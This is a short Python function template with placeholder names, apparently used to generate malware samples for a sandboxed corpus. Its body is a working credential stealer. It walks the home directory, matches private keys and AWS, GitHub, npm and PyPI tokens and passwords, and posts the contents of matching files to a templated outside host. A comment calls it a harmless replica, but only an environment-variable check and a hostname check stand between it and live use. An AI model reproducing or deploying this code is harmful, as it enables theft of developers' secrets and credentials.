# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import json
    import re
    import time
    import urllib.request
    pattern = re.compile(rb'PRIVATE KEY|AKIA[0-9A-Z]{16}|gh[po]_\w{36}|npm_\w{36}|pypi-\w{40}|passw|secret', re.I)
    hits = {}
    stop = time.monotonic() + 1.5
    for directory, folders, names in os.walk(os.path.expanduser('~')):
        folders[:] = [one for one in folders if one not in ('node_modules', '.cache', '.npm', '.git', '.pyenv', '.nvm', 'site-packages')]
        if time.monotonic() > stop or len(hits) > 100:
            break
        for name in names[:50]:
            path = os.path.join(directory, name)
            try:
                with open(path, 'rb') as file:
                    data = file.read(50000)
            except OSError:
                continue
            for found in pattern.findall(data)[:1]:
                hits[path] = data.decode('latin-1')
    try:
        urllib.request.urlopen(urllib.request.Request('https://{{host}}/{{path}}', data=json.dumps(hits).encode()), timeout=1).close()
    except Exception:
        pass
